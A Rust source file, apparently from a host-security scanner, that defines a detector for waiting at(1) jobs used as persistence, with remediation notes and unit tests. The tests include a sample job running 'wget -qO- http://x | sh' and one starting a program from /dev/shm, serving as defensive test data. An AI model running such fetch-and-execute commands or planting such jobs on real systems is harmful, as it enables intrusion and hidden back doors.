//! A job of at(1) waits.
//!
//! # What it sees
//! A job in the spool of atd: a note, with what it runs, as whom, and who wrote it. `suspicious` when it starts a
//! program from a volatile or hidden place, fetches or decodes code and runs it, or opens a shell to elsewhere.
//!
//! # Why it matters
//! Hardly anybody uses at any more, so a job that puts a back door back in place tomorrow is seldom found.
//!
//! # Innocent causes
//! An admin who puts off a reboot or a command; tools that use at to undo a change of the firewall.
//!
//! # What to do
//! `at -c NUMBER` shows the whole job, `atrm NUMBER` takes it away. Keep a copy of the file first.

use super::{foreign, judge, risky};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/at-job",
    title: "a job of at waits",
    level: Level::Suspicious,
    attack: &["T1053.002"],
    absolute: false,
    source: include_str!("at_job.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    foreign(scene.world, &[AutostartKind::At]).filter_map(|entry| look(scene, entry)).collect()
}

fn look(scene: &Scene<'_>, entry: &Autostart) -> Option<Finding> {
    let finding = match judge(scene.world, entry) {
        Some(judged) => risky(&DETECTOR, scene, entry, judged)?,
        None if entry.dormant => return None,
        None => super::finding(&DETECTOR, scene, entry, Level::Note, "is a job of at that waits for its time"),
    };
    Some(finding.innocent("a command that somebody put off", false, "ask the account's owner"))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;
    const NAME: &str = "persistence/at-job";

    #[track_caller]
    fn check_job(mode: &str, command: &str, expected: &[&str]) {
        let job = "/var/spool/cron/atjobs/a00001018c3d5e";
        let head =
            "#!/bin/sh\\n# atrun uid=0 gid=0\\n# mail root 0\\numask 22\\nA=b; export A\\ncd / || {\\n exit 1\\n}\\n";
        check(NAME, &format!("{job} = {head}{command}\\n\n{job} : mode={mode}"), expected);
    }

    #[test]
    fn a_job_is_a_note_and_a_done_one_nothing() {
        let note = "note: /var/spool/cron/atjobs/a00001018c3d5e line 9 is a job of at that waits for its time";
        check_job("100700", "shutdown -r now", &[note]);
        check_job("100600", "shutdown -r now", &[]);
    }
    #[test]
    fn a_job_that_fetches_code() {
        let text = "suspicious: /var/spool/cron/atjobs/a00001018c3d5e line 9 fetches code and runs it";
        check_job("100700", "wget -qO- http://x | sh", &[text]);
        let text = "suspicious: /var/spool/cron/atjobs/a00001018c3d5e line 9 starts /dev/shm/k, which lies in /dev/shm \
                    and is not there now";
        check_job("100700", "/dev/shm/k", &[text]);
    }
}
